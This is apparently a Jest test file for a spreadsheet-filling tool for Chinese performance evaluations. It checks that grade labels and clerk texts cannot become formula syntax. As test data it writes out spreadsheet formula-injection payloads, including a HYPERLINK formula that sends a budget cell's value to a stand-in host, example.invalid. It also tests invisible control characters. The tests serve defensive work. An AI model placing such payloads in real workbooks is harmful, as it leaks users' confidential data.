/**
 * No text from a workbook or a scheme file becomes formula syntax: grade labels are looked up from cells, never
 * pasted into the 评价等级 formula; scheme texts that would mislead (a leading =, invisible or control characters)
 * are refused naming the row, in a --scheme file and in the 评分方案 sheet. A property test over arbitrary Unicode
 * labels and clerk texts: every formula written is one of ours, and LibreOffice recalculates the workbooks
 * without an error, showing the label the engine chose.
 */
import fc from 'fast-check';
import { mkdtempSync, readFileSync, writeFileSync } from 'fs';
import { tmpdir } from 'os';
import { join } from 'path';
import { runJob } from '../../src/app/job';
import { main } from '../../src/cli/main';
import { getPreset } from '../../src/engine';
import type { Scheme } from '../../src/engine/types';
import { OUR_SHEETS } from '../../src/sheets';
import { XlsxWorkbook } from '../../src/workbook/xlsx';
import { fill, loadBook, plain, rowOf, sampleBytes, saveBook, sheet, SAMPLE_PATH } from '../support/filled';
import { formulaProblems, formulasOf } from '../support/formulaSafety';
import { recalculateAll } from '../support/libreoffice';
import { buildXlsx, dumpFixture } from '../support/xlsxFixture';

jest.setTimeout(180_000);

const dir = mkdtempSync(join(tmpdir(), 'jixiao-scheme-text-'));
const OUR_SHEET_NAMES = Object.values(OUR_SHEETS);
/** Within a grade label's 20 characters: would concatenate 全年预算数 into the grade if it were pasted into a formula. */
const INJECTION = '差"&基础数据!B13&"';
/** The example: a link carrying 全年预算数 off the machine; too long for a grade label anyway. */
const LINK = '优"&HYPERLINK("http://example.invalid/?b="&基础数据!B13,"点击")&"';

function schemeWithGrades(labels: string[]): Scheme {
  const scheme = structuredClone(getPreset('通用')!) as Scheme;
  scheme.name = '测试方案';
  scheme.grades = scheme.grades.map((g, i) => ({ ...g, grade: labels[i] ?? g.grade }));
  return scheme;
}

async function run(...argv: string[]) {
  const out: string[] = [];
  const err: string[] = [];
  const code = await main(argv, { out: (t) => out.push(t), err: (t) => err.push(t) });
  return { code, out: out.join('\n'), err: err.join('\n') };
}

function schemeFile(name: string, scheme: Scheme): string {
  const path = join(dir, name);
  writeFileSync(path, JSON.stringify(scheme));
  return path;
}

async function allFormulasOurs(bytes: Uint8Array): Promise<void> {
  const formulas = formulasOf(await loadBook(bytes), OUR_SHEET_NAMES);
  expect(formulas.length).toBeGreaterThan(3);
  for (const { where, formula } of formulas)
    expect({ where, problems: formulaProblems(formula) }).toEqual({ where, problems: [] });
}

test('formulaProblems tells our formulas from text that became syntax', () => {
  expect(formulaProblems('=INDEX(J35:J38,MATCH(MAX(ROUND(G33,2),I35),I35:I38,1))')).toEqual([]);
  expect(formulaProblems('=IF(D40=0,"—",ROUND(E40/D40,4))')).toEqual([]);
  expect(formulaProblems(`=IF(ROUND(G33,2)>=90,"${LINK}","差")`)).not.toEqual([]);
  expect(formulaProblems('=HYPERLINK("http://x","y")')).toEqual([
    'text we did not write: "http://x"',
    'text we did not write: "y"',
    'function HYPERLINK( in =HYPERLINK("http://x","y")',
  ]);
  expect(formulaProblems('=SUM(基础数据!B13)')).not.toEqual([]);
});

test('--scheme with the HYPERLINK label and an ASCII-quoted label: written as text, every formula ours, LibreOffice shows the label', async () => {
  // The lowest band carries the injection, so the sample's 47.47 gets it; 良 is typed with ASCII quotes.
  const file = schemeFile('injection.json', schemeWithGrades(['优', '"良"', '中', INJECTION]));
  const out = join(dir, 'injection.xlsx');
  const r = await run('fill', SAMPLE_PATH, '-o', out, '--scheme', file);
  expect(r.err).toBe('');
  expect(r.code).toBe(0);
  const bytes = new Uint8Array(readFileSync(out));
  await allFormulasOurs(bytes);
  const ws = sheet(await loadBook(bytes), '评分表');
  const grade = rowOf(ws, 1, '评价等级');
  expect(plain(grade.getCell(7))).toBe(INJECTION);
  const labels = [0, 1, 2, 3].map((i) => plain(ws.getCell(grade.number + i, 10)));
  expect(labels).toEqual([INJECTION, '中', '"良"', '优']);
  const [recalculated] = recalculateAll([bytes]);
  const back = sheet(await loadBook(recalculated), '评分表');
  expect(plain(rowOf(back, 1, '评价等级').getCell(7))).toBe(INJECTION);
  expect(plain(rowOf(back, 1, '合计').getCell(7))).toBe(47.47);
});

test('a --scheme label that a spreadsheet would take for a formula, or with invisible characters, is refused naming it (exit 2)', async () => {
  const formula = schemeFile('formula.json', schemeWithGrades(['=HYPERLINK("http://example.invalid","点击")']));
  const r = await run('evaluate', SAMPLE_PATH, '--scheme', formula);
  expect(r.code).toBe(2);
  expect(r.err).toContain('第1个等级的名称');
  expect(r.err).toContain('当作公式');
  const link = await run('evaluate', SAMPLE_PATH, '--scheme', schemeFile('link.json', schemeWithGrades([LINK])));
  expect(link.code).toBe(2);
  expect(link.err).toContain('第1个等级的名称');
  expect(link.err).toContain('超过 20 个字符');
  const hidden = structuredClone(getPreset('通用')!) as Scheme;
  hidden.items[2].level3 = '在职人员\u202E控制率';
  const out = join(dir, 'never.xlsx');
  const h = await run('fill', SAMPLE_PATH, '-o', out, '--scheme', schemeFile('hidden.json', hidden));
  expect(h.code).toBe(2);
  expect(h.err).toContain('第3行');
  expect(h.err).toContain('U+202E');
  expect(() => readFileSync(out)).toThrow();
});

test('the 评分方案 sheet: a grade typed as a formula text is refused naming its row; "良" with quotes works', async () => {
  const filled = await loadBook((await fill(sampleBytes())).bytes);
  const ws = sheet(filled, '评分方案');
  const good = rowOf(ws, 1, '良');
  good.getCell(1).value = '"良"';
  const { bytes, result } = await fill(await saveBook(filled));
  expect(result.evaluation.scheme.grades.map((g) => g.grade)).toContain('"良"');
  await allFormulasOurs(bytes);

  const edited = await loadBook(bytes);
  const scheme = sheet(edited, '评分方案');
  const row = rowOf(scheme, 1, '优');
  row.getCell(1).value = '=HYPERLINK("http://example.invalid/?b="&基础数据!B13,"点击")';
  const again = await runJob(await XlsxWorkbook.open(await saveBook(edited)), { onNameConflict: 'rename' });
  expect(again.written).toBe(false);
  const message = again.evaluation.findings.map((f) => f.message).join('\n');
  expect(message).toContain(`评分方案表第${row.number}行`);
  expect(message).toContain('当作公式');
});

test('property: any Unicode grade labels and clerk texts — refused naming the text, or written with only our formulas; LibreOffice recalculates a batch without errors', async () => {
  // Pieces of formula syntax a label may carry harmlessly, and ones the rules refuse.
  const syntax = [
    '"',
    '""',
    '&',
    'HYPERLINK(',
    '基础数据!B13',
    ',',
    ')',
    "'",
    '!',
    '#REF!',
    '良',
    '😀',
    ' ',
    '\\',
    '[1]',
  ];
  const refused = ['=', '+', '@', '-', '\u200b', '\u202e', '\n'];
  const piece = fc.oneof(
    { arbitrary: fc.constantFrom(...syntax, ...refused), weight: 4 },
    { arbitrary: fc.string({ unit: 'grapheme', maxLength: 3 }), weight: 3 },
    { arbitrary: fc.string({ unit: 'binary', maxLength: 3 }), weight: 1 },
  );
  const anyLabel = fc.array(piece, { minLength: 1, maxLength: 5 }).map((parts) => parts.join(''));
  // Mostly labels that pass the rules yet are full of formula syntax, so that many runs get written.
  const tricky = fc.array(fc.constantFrom(...syntax), { minLength: 1, maxLength: 5 }).map((p) => '等' + p.join(''));
  const label = fc.oneof({ arbitrary: tricky, weight: 3 }, { arbitrary: anyLabel, weight: 1 });
  // Clerk texts typed in the workbook (单位名称, a report text, a note beside them): any Unicode a cell can hold
  // (no C0 controls, which neither Excel nor XML keep), with the same formula syntax mixed in.
  const cellText = fc
    .array(
      fc.oneof(
        { arbitrary: fc.constantFrom(...syntax, ...refused.filter((r) => r !== '\n'), '\n'), weight: 2 },
        { arbitrary: fc.string({ unit: 'grapheme', maxLength: 6 }), weight: 2 },
      ),
      { maxLength: 8 },
    )
    .map((parts) => parts.join('').replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/g, ''));
  const sample = await dumpFixture(sampleBytes());
  const unitCell = sample.names
    .find((n) => n.name === '单位名称')!
    .refersTo.replace(/\$/g, '')
    .split('!');
  const written: { bytes: Uint8Array; grade: string; total: number }[] = [];
  let refusals = 0;
  await fc.assert(
    fc.asyncProperty(
      fc.array(label, { minLength: 4, maxLength: 4 }),
      label,
      label,
      cellText,
      cellText,
      async (grades, level1, note, unit, overview) => {
        const scheme = schemeWithGrades(grades);
        scheme.items[0].level1 = level1;
        scheme.items[0].standard = note;
        const fixture = structuredClone(sample);
        // A 单位名称 that is blank after trimming would be a missing required input, not a text problem.
        fixture.sheets.find((x) => x.name === unitCell[0])!.cells[unitCell[1]] = `局${unit}`;
        fixture.sheets.push({ name: '说明', cells: { A1: '单位概况', B1: overview || '无', C1: unit } });
        fixture.names.push({ name: '单位概况', refersTo: '说明!$B$1' });
        const book = await XlsxWorkbook.open(await buildXlsx(fixture));
        const result = await runJob(book, { scheme, onNameConflict: 'rename', date: new Date(2022, 6, 8) });
        if (!result.written) {
          refusals++;
          const errors = result.evaluation.findings.filter((f) => f.severity === 'error');
          expect(errors.length).toBeGreaterThan(0);
          for (const e of errors) expect(e.code).toBe('scheme-invalid');
          return;
        }
        const bytes = await book.toBuffer();
        await allFormulasOurs(bytes);
        if (written.length < 6)
          written.push({ bytes, grade: result.evaluation.grade ?? '', total: result.evaluation.total.toNumber() });
      },
    ),
    { numRuns: 40, seed: 20261204 },
  );
  expect(written.length).toBeGreaterThan(0);
  expect(refusals).toBeGreaterThan(0);
  const recalculated = recalculateAll(written.map((w) => w.bytes));
  for (const [i, data] of recalculated.entries()) {
    const book = await loadBook(data);
    for (const name of OUR_SHEET_NAMES) {
      book.getWorksheet(name)?.eachRow((row) =>
        row.eachCell((cell) => {
          // An error shows as { error } (a formula's result) or as its text; either is a failure.
          const raw = plain(cell) as unknown;
          const v = raw && typeof raw === 'object' && 'error' in raw ? String(raw.error) : raw;
          const at = `${name}!${cell.address}`;
          if (raw && typeof raw === 'object') expect({ at, v }).toEqual({ at, v: 'no error value' });
          if (cell.formula) expect({ at, v }).not.toEqual({ at, v: expect.stringMatching(/^(#[A-Z/0!?]+|Err:\d+)$/) });
        }),
      );
    }
    const ws = sheet(book, '评分表');
    expect(plain(rowOf(ws, 1, '评价等级').getCell(7))).toBe(written[i].grade);
    expect(plain(rowOf(ws, 1, '合计').getCell(7))).toBe(written[i].total);
  }
});
